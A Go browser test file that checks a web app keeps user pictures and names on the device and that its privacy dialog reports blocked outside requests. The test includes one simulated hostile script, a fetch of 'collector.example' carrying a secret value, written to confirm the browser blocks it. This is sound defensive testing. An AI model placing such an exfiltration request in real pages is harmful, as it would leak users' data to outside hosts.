//go:build !js

package keep_test

import (
	"strings"
	"testing"

	"github.com/deepemd/deepemd/internal/browsertest"
	"github.com/deepemd/deepemd/web/internal/studiotest"
)

// Teaching, testing, explaining, watching, reloading and hearing send nothing. The browser blocks
// requests of a hostile script, and the page names them.
func TestNothingLeavesTheDevice(t *testing.T) {
	book := &studiotest.Account{Site: studiotest.Site(t)}
	s := studiotest.OpenSite(t, book, browsertest.Options{})
	s.Ready()
	s.Name(1, "a secret thing")
	s.Drop(studiotest.Card(1), studiotest.PictureFile(t, "a.jpg", studiotest.Red), studiotest.PictureFile(t, "b.jpg", studiotest.Red))
	s.Drop(studiotest.Card(2), studiotest.PictureFile(t, "c.jpg", studiotest.Blue), studiotest.PictureFile(t, "d.jpg", studiotest.Blue))
	s.WaitCount(".thumbnail", 4)
	s.Drop(".view", studiotest.PictureFile(t, "e.jpg", studiotest.Red))
	s.WaitFor(`document.querySelectorAll(".bar:not(.unknown)").length === 2`)
	s.IsKept()
	s.Revisit()
	s.WaitCount(".thumbnail", 4)

	s.OpenDialog("#open-privacy", "#privacy")
	s.WaitFor(`document.querySelector("#privacy").innerText.includes("blocks requests to other addresses")`)
	if got := s.Text("#privacy .left"); !strings.HasPrefix(got, "Nothing") {
		t.Errorf("the page says %q", got)
	}
	s.Shot("privacy-nothing")

	asked, strange := book.Report()
	if asked < 20 || len(strange) > 0 {
		t.Errorf("of %d requests these could carry something: %q", asked, strange)
	}
	for _, host := range s.Outside() {
		t.Errorf("the page tried to reach %s", host)
	}

	s.Eval(`fetch("https://collector.example/?thing=secret").catch(() => {})`)
	s.WaitFor(`document.querySelector("#privacy .left li")?.innerText.includes("https://collector.example/")`)
	if got := s.Text("#privacy .left"); !strings.Contains(got, "blocked by the browser") || !strings.HasPrefix(got, "Nothing") {
		t.Errorf("after a try the page says %q", got)
	}
	s.Shot("privacy-stopped")
	for _, host := range s.Outside() {
		t.Errorf("the browser let the page reach %s", host)
	}
}
